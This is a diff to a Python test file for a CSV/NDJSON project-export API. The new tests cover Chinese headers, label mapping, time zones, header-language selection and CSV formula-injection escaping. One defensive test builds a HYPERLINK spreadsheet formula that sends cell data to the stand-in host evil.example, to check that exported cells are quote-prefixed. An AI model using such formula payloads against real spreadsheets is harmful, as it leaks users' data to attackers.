@@ -5,7 +5,12 @@ from __future__ import annotations
 import csv
 import io
 import json
+from datetime import UTC, datetime
 
+import pytest
+from sqlalchemy import update
+
+from store import tables
 from tests.api.list_helpers import bulk_projects, insert_projects, project_row
 from tests.utils import make_agencies
 
@@ -53,8 +58,8 @@ async def test_csv_starts_with_a_bom_and_streams_more_rows_than_one_cursor_batch
     # then Excel's UTF-8 marker leads, and every project is there once, Chinese intact
     assert body.startswith(b"\xef\xbb\xbf")
     assert response.headers["content-type"].startswith("text/csv")
-    assert len(table) == 2500 and len({r["id"] for r in table}) == 2500
-    assert table[0]["name"] == "营口市批量项目1" and table[0]["totalInvestment"] == "100001.00"
+    assert len(table) == 2500 and len({r["项目标识"] for r in table}) == 2500
+    assert table[0]["项目名称"] == "营口市批量项目1" and table[0]["总投资（元）"] == "100001.00"
 
 
 async def test_export_needs_a_token_and_well_formed_filters(api, client, session_factory):
@@ -82,3 +87,117 @@ async def test_export_needs_a_token_and_well_formed_filters(api, client, session
         "investmentMin",
     )
     assert (bad_status.status_code, bad_status.json()["errors"][0]["extensions"]["field"]) == (400, "status")
+
+
+def _csv_rows(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+async def test_csv_cells_starting_a_formula_are_prefixed_with_a_quote_and_ndjson_is_unchanged(
+    api, client, session_factory, prefix
+):
+    # given a project whose name and lead unit's name start with a formula trigger
+    a = await make_agencies(api, session_factory, "unit")
+    evil = prefix + 'HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    async with session_factory() as session, session.begin():
+        await session.execute(
+            update(tables.organizations).where(tables.organizations.c.id == a.org["unit"]).values(name=evil)
+        )
+    await insert_projects(session_factory, [project_row(a.org["unit"], 1, name=evil)])
+    auth = {"Authorization": f"Bearer {a.token['unit']}"}
+    # when exported as CSV (people's and machines' columns) and as NDJSON
+    people = _csv_rows(await client.get("/export/projects.csv", headers=auth))
+    machines = _csv_rows(await client.get("/export/projects.csv", params={"header": "en"}, headers=auth))
+    ndjson = json.loads((await client.get("/export/projects.ndjson", headers=auth)).text.splitlines()[0])
+    # then every CSV cell holding it starts with a quote, and the NDJSON keeps the name as it is
+    name_zh, lead_zh = people[0].index("项目名称"), people[0].index("牵头单位")
+    assert (people[1][name_zh], people[1][lead_zh]) == ("'" + evil, "'" + evil)
+    assert machines[1][machines[0].index("name")] == "'" + evil
+    assert (ndjson["name"], ndjson["leadOrganization"]) == (evil, evil)
+
+
+async def test_csv_cells_that_only_contain_a_trigger_later_are_left_alone(api, client, session_factory):
+    # given names with = + - @ inside, not at the start
+    a = await make_agencies(api, session_factory, "unit")
+    await insert_projects(session_factory, [project_row(a.org["unit"], 1, name="营口市A=B+C-D@E平台")])
+    # when exported as CSV
+    rows = _csv_rows(
+        await client.get("/export/projects.csv", headers={"Authorization": f"Bearer {a.token['unit']}"})
+    )
+    # then the name is not altered
+    assert rows[1][rows[0].index("项目名称")] == "营口市A=B+C-D@E平台"
+
+
+async def test_csv_for_people_has_chinese_headers_labels_yes_no_and_china_time_with_offset(
+    api, client, session_factory
+):
+    # given a project created at 2026-03-01 16:30 UTC (00:30 the next day in Yingkou), not on the cloud
+    a = await make_agencies(api, session_factory, "unit")
+    at = datetime(2026, 3, 1, 16, 30, tzinfo=UTC)
+    await insert_projects(
+        session_factory,
+        [
+            project_row(
+                a.org["unit"],
+                1,
+                kind="UPGRADE",
+                funding_source="PPP",
+                deploys_on_government_cloud=False,
+                created_at=at,
+                updated_at=at,
+                submitted_at=at,
+            )
+        ],
+    )
+    # when exported as CSV without asking for a language
+    rows = _csv_rows(
+        await client.get("/export/projects.csv", headers={"Authorization": f"Bearer {a.token['unit']}"})
+    )
+    row = dict(zip(rows[0], rows[1], strict=True))
+    # then headers and values are for people
+    assert rows[0][:4] == ["项目标识", "项目编号", "项目名称", "项目状态"]
+    assert row["项目状态"] == "入库审核中"
+    assert (row["项目类型"], row["项目类别"], row["资金来源"]) == (
+        "升级改造",
+        "业务信息系统",
+        "政府主导、社会资本参与",
+    )
+    assert (row["依托政务云部署"], row["接入政务信息资源库平台"]) == ("否", "是")
+    assert row["创建时间"] == row["提交入库时间"] == "2026-03-02 00:30:00+08:00"
+
+
+@pytest.mark.parametrize(("params", "headers"), [({"header": "en"}, {}), ({}, {"Accept-Language": "en"})])
+async def test_csv_for_machines_has_the_ndjson_columns_on_request(
+    api, client, session_factory, params, headers
+):
+    # given a project
+    a = await make_agencies(api, session_factory, "unit")
+    await insert_projects(session_factory, [project_row(a.org["unit"], 1)])
+    # when exported as CSV with header=en, or with Accept-Language: en
+    rows = _csv_rows(
+        await client.get(
+            "/export/projects.csv",
+            params=params,
+            headers={"Authorization": f"Bearer {a.token['unit']}"} | headers,
+        )
+    )
+    row = dict(zip(rows[0], rows[1], strict=True))
+    # then the columns are the NDJSON keys, with codes rather than labels
+    assert rows[0][:5] == ["id", "code", "name", "status", "statusLabel"]
+    assert (row["status"], row["kind"], row["fundingSource"]) == ("RESERVE_REVIEW", "BUILD", "FISCAL")
+
+
+async def test_csv_header_parameter_overrides_accept_language_and_refuses_unknown_values(
+    api, client, session_factory
+):
+    # given a signed-in unit with a project
+    a = await make_agencies(api, session_factory, "unit")
+    await insert_projects(session_factory, [project_row(a.org["unit"], 1)])
+    auth = {"Authorization": f"Bearer {a.token['unit']}", "Accept-Language": "en"}
+    # when asking for Chinese headers in English, and for an unknown header language
+    zh = _csv_rows(await client.get("/export/projects.csv", params={"header": "zh"}, headers=auth))
+    unknown = await client.get("/export/projects.csv", params={"header": "fr"}, headers=auth)
+    # then the parameter wins, and an unknown value is a 400 naming it
+    assert zh[0][2] == "项目名称"
+    assert (unknown.status_code, unknown.json()["errors"][0]["extensions"]["field"]) == (400, "header")
